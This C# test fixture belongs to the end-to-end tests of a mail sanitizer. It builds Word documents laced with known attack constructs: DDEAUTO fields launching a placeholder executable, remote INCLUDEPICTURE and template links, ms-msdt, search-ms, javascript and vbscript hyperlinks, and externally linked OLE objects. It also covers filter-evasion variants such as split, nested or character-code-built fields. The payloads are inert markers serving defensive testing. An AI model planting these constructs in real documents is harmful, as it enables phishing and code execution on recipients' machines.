namespace MiyakoMailSanitizer.EndToEnd.Tests.Office;

/// <summary>What can be put into Word documents.</summary>
internal static class WordPoison
{
    private const string Names = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" "
        + "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\"";

    private static readonly string[] Fields =
    [
        "DDEAUTO c:\\\\windows\\\\system32\\\\poisonmark.exe \"/k calc\"", "DDE excel poisonmark", "  ddeauto poisonmark", "INCLUDEPICTURE \"http://poisonmark.example/a.png\" \\d",
        "INCLUDETEXT \"\\\\\\\\poisonmark\\\\a.docx\"", "INCLUDE poisonmark", "IMPORT poisonmark", "LINK Excel.Sheet.8 \"c:\\\\poisonmark.xls\" A1 \\a", "EMBED Package poisonmark",
        "DATABASE \\d \"poisonmark\" \\c \"DSN=x\" \\s \"SELECT\"", "MACROBUTTON poisonmark click", "GOTOBUTTON poisonmark", "PRINT poisonmark", "RD poisonmark", "HTMLCONTROL poisonmark",
        "ADDIN poisonmark", "CONTROL poisonmark \\s", "AUTOTEXT poisonmark", "QUOTE poisonmark", "HYPERLINK \"file:///c:/poisonmark.exe\"", "HYPERLINK \"ms-msdt:/id poisonmark\"",
        "HYPERLINK \"search-ms:query=poisonmark\"", "HYPERLINK \"\\\\\\\\poisonmark\\\\share\"", "HYPERLINK \"javascript:poisonmark\"", "hyperlink c:\\\\poisonmark.exe",
        "HYPERLINK \\o \"tip\" \"file://poisonmark/a\"", "HYPERLINK \"http://a.example/\" \"vbscript:poisonmark\"", "BARCODE \\b poisonmark DDE", "=DDE poisonmark", "REF DDEAUTO poisonmark",
        "DOCPROPERTY HyperlinkBase DDEAUTO poisonmark", "SET x \"DDEAUTO poisonmark\"", "IF 1 = 1 DDEAUTO poisonmark", "DISPLAYBARCODE http://poisonmark QR", "USERNAME DDE poisonmark",
    ];

    private static readonly string[] Links =
    [
        "file:///c:/poisonmark.exe", "\\\\poisonmark\\share\\a", "ms-word:ofe|u|http://poisonmark/a.docx", "search-ms:query=poisonmark", "javascript:poisonmark", "vbscript:poisonmark",
        "ms-excel:ofv|u|poisonmark", "data:text/html,poisonmark", "ldap://poisonmark/", "FILE://poisonmark/a", " file://poisonmark", "poisonmark.exe", "c:\\poisonmark.exe", "ftp://poisonmark/",
        "http:\\\\poisonmark\\a", "https://user:pw@\\\\poisonmark", "\thttp:poisonmark", "mailto:\r\n poisonmark", "mk:@MSITStore:poisonmark",
    ];

    public static IEnumerable<(string Name, Action<PoisonedPackage> Put)> Kinds()
    {
        foreach (var field in Fields)
        {
            yield return ($"simple field {field}", p => Body(p, $"<w:p {Names}><w:fldSimple w:instr=\"{Quoted(field)}\"><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>"));
            yield return ($"field {field}", p => Body(p, $"<w:p {Names}>{Run("begin")}{string.Concat(field.Chunk(3).Select(c => Instruction(new string(c))))}{Run("separate")}{Run("end")}</w:p>"));
        }

        var dde = Fields[0];
        yield return ("field over paragraphs", p => Body(p, $"<w:p {Names}>{Run("begin")}{Instruction(dde[..3])}</w:p><w:p {Names}>{Instruction(dde[3..])}{Run("separate")}{Run("end")}</w:p>"));
        yield return ("field without an end", p => Body(p, $"<w:p {Names}>{Run("begin")}{Instruction(dde)}</w:p>"));
        yield return ("field in a field", p => Body(p,
            $"<w:p {Names}>{Run("begin")}{Instruction("IF 1 = 1 ")}{Run("begin")}{Instruction(dde)}{Run("separate")}{Run("end")}{Run("separate")}{Run("end")}</w:p>"));
        yield return ("field made by a field", p => Body(p,
            $"<w:p {Names}>{Run("begin")}{Run("begin")}{Instruction(" QUOTE 68 68 69 65 85 84 79 ")}{Run("separate")}{Run("end")}{Instruction(" poisonmark ")}{Run("separate")}{Run("end")}</w:p>"));
        yield return ("field as deleted text", p => Body(p,
            $"<w:p {Names}>{Run("begin")}<w:del w:id=\"9\" w:author=\"a\"><w:r><w:delInstrText>{Quoted(dde)}</w:delInstrText></w:r></w:del>{Run("separate")}{Run("end")}</w:p>"));
        yield return ("field with its text in w:t", p => Body(p, $"<w:p {Names}>{Run("begin")}{Instruction("DDE")}<w:r><w:t>AUTO</w:t></w:r>{Instruction(" poisonmark")}{Run("end")}</w:p>"));
        foreach (var link in Links)
            yield return ($"link {link}", p => Body(p, $"<w:p {Names}><w:hyperlink r:id=\"{p.Relate(p.Main, "hyperlink", link, isExternal: true)}\"><w:r><w:t>shown</w:t></w:r></w:hyperlink></w:p>"));
        yield return ("VML picture from outside", p => Body(p, $"<w:p {Names}><w:r><w:pict><v:shape id=\"z\" style=\"width:9pt;height:9pt\" href=\"file:///poisonmark\">"
            + $"<v:imagedata src=\"http://poisonmark.example/a\" r:href=\"{p.Relate(p.Main, "image", "http://poisonmark.example/a", isExternal: true)}\" o:href=\"http://poisonmark/\"/></v:shape></w:pict></w:r></w:p>"));
        yield return ("object", p => Body(p, $"<w:p {Names}><w:r><w:object><v:shape id=\"z\" style=\"width:9pt\"/><o:OLEObject Type=\"Link\" ProgID=\"poisonmark\" ShapeID=\"z\" "
            + $"r:id=\"{p.Relate(p.Main, "oleObject", "http://poisonmark.example/a.rtf", isExternal: true)}\" UpdateMode=\"Always\"/></w:object></w:r></w:p>"));
        yield return ("control", p => Body(p, $"<w:p {Names}><w:r><w:object><w:control r:id=\"x\" w:name=\"poisonmark\" w:shapeid=\"z\"/></w:object></w:r></w:p>"));
        yield return ("alternative chunk", p => Body(p, $"<w:altChunk {Names} r:id=\"{p.Relate(p.Main, "aFChunk", "http://poisonmark.example/", isExternal: true)}\"/>"));
        yield return ("data binding", p => Body(p, $"<w:sdt {Names}><w:sdtPr><w:dataBinding w:xpath=\"/poisonmark\" w:storeItemID=\"x\"/></w:sdtPr><w:sdtContent><w:p/></w:sdtContent></w:sdt>"));
        yield return ("custom XML", p => Body(p, $"<w:customXml {Names} w:uri=\"poisonmark\" w:element=\"poisonmark\"><w:p/></w:customXml>"));
        yield return ("settings", p =>
        {
            foreach (var settings in p.Targets(p.Main, "settings"))
            {
                p.Insert(settings, "settings", $"<w:attachedTemplate {Names} r:id=\"{p.Relate(settings, "attachedTemplate", "http://poisonmark.example/t.dotm", isExternal: true)}\"/>"
                    + $"<w:mailMerge {Names}><w:connectString w:val=\"poisonmark\"/><w:query w:val=\"poisonmark\"/></w:mailMerge><w:saveThroughXslt {Names} w:solutionID=\"poisonmark\"/>", isFirst: true);
            }
        }
        );
    }

    private static void Body(PoisonedPackage package, string xml) => package.Insert(package.Main, "body", xml, isFirst: true);

    private static string Run(string type) => $"<w:r><w:fldChar w:fldCharType=\"{type}\"/></w:r>";

    private static string Instruction(string text) => $"<w:r><w:instrText xml:space=\"preserve\">{Quoted(text)}</w:instrText></w:r>";

    private static string Quoted(string text) => text.Replace("&", "&amp;", StringComparison.Ordinal).Replace("\"", "&quot;", StringComparison.Ordinal);
}
